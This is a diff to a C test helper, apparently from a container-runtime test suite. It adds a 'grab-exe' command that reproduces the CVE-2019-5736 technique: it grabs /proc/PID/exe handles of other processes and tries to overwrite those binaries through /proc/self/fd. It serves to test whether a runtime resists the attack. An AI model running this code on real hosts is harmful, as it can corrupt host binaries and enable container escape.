@@ -10,6 +10,7 @@
  *   checker exe (what /proc/self/exe names, and whether it opens for write)
  *   checker mountinfo PATH (fstype, options, propagation of the mount at PATH)
  *   checker read PATH | ls PATH | ioprio | sched | write-exe PID TEXT
+ *   checker grab-exe SECONDS (CVE-2019-5736: grab every /proc/PID/exe, try to write it)
  *   checker mkdir-mode PATH OCTAL (mkdir(2) with that mode argument)
  *   checker notify MSG (one datagram to $NOTIFY_SOCKET, as sd_notify)
  */
@@ -408,6 +409,65 @@ static int cmd_notify(const char *msg)
 	return 0;
 }
 
+/* CVE-2019-5736 the way the exploit does it: for SECONDS, grab an O_PATH
+ * fd on /proc/PID/exe of every other process that appears, and keep trying
+ * to reopen each grabbed binary for writing through /proc/self/fd (which
+ * works once the process has exited and ETXTBSY no longer applies, if the
+ * binary is a writable host file).  Prints each grabbed exe once
+ * (grabbed=TARGET) and write_exe=ok if any write went through. */
+static int cmd_grab_exe(int seconds)
+{
+	int fds[256], nfd = 0, wrote = 0;
+	pid_t pids[256];
+	time_t end = time(NULL) + seconds;
+
+	while (time(NULL) < end) {
+		DIR *d = opendir("/proc");
+		struct dirent *e;
+
+		while (d && (e = readdir(d)) != NULL && nfd < 256) {
+			pid_t pid = (pid_t)atoi(e->d_name);
+			char p[64], target[256];
+			ssize_t n;
+			int i, seen = 0;
+
+			if (pid <= 0 || pid == getpid())
+				continue;
+			for (i = 0; i < nfd; i++)
+				seen |= pids[i] == pid;
+			if (seen)
+				continue;
+			snprintf(p, sizeof(p), "/proc/%d/exe", pid);
+			n = readlink(p, target, sizeof(target) - 1);
+			if (n < 0)
+				continue;
+			target[n] = '\0';
+			fds[nfd] = open(p, O_PATH | O_CLOEXEC);
+			if (fds[nfd] < 0)
+				continue;
+			pids[nfd++] = pid;
+			printf("grabbed=%s\n", target);
+		}
+		if (d)
+			closedir(d);
+		for (int i = 0; i < nfd; i++) {
+			char p[64];
+			int w;
+
+			snprintf(p, sizeof(p), "/proc/self/fd/%d", fds[i]);
+			w = open(p, O_WRONLY | O_CLOEXEC);
+			if (w >= 0) {
+				if (write(w, "#!/bin/sh\n", 10) == 10)
+					wrote = 1;
+				close(w);
+			}
+		}
+		usleep(1000);
+	}
+	printf("write_exe=%s\n", wrote ? "ok" : "denied");
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
 	const char *c = argc > 1 ? argv[1] : "";
@@ -453,6 +513,7 @@ int main(int argc, char **argv)
 	if (!strcmp(c, "sched")) return cmd_sched();
 	if (!strcmp(c, "ioprio")) { long v = syscall(SYS_ioprio_get, 1, 0); printf("ioprio_class=%ld\nioprio_level=%ld\n", v < 0 ? -1 : v >> 13, v < 0 ? -1 : v & 0x1fff); return 0; }
 	if (!strcmp(c, "write-exe") && a && b) return cmd_write_exe(a, b);
+	if (!strcmp(c, "grab-exe") && a) return cmd_grab_exe(atoi(a));
 	fprintf(stderr, "checker: unknown command \"%s\"\n", c);
 	return 2;
 }
